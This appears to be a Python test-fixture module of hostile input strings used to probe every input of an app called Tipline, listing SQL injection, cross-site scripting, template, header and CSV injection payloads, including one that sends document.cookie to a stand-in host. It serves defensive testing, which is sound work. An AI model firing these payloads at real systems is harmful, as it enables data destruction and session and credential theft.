"""Strings an attacker (or an unlucky resident) sends through every input of Tipline."""

from __future__ import annotations

SQL_INJECTION = (
    "'; DROP TABLE tips; --",
    '" OR 1=1 --',
    "1' UNION SELECT password_hash, username FROM staff_users --",
    "x'); DELETE FROM audit_log; --",
    "\\'; UPDATE tips SET urgency='none' WHERE '1'='1",
)
SCRIPT = (
    "<script>alert('tipline')</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "</textarea><script>alert(2)</script>",
)
TEMPLATE_AND_FORMAT = ("{{ 7*7 }}", "{% raw %}${7*7}", "%s%s%s%n", "{0.__class__}")
HEADER_AND_CSV = ("line one\r\nSet-Cookie: session=stolen", '=HYPERLINK("http://evil.example")', "+1-2 @SUM(1)")
ODD_UNICODE = ("\u202egnp.exe", "Zoë 👀 señor", "\ufeffBOM", "tab\there")

ALL = SQL_INJECTION + SCRIPT + TEMPLATE_AND_FORMAT + HEADER_AND_CSV + ODD_UNICODE

# What must never appear unescaped in a console page.
RAW_MARKUP = ("<script>alert", "<img src=x", "<svg/onload", "</textarea><script>")
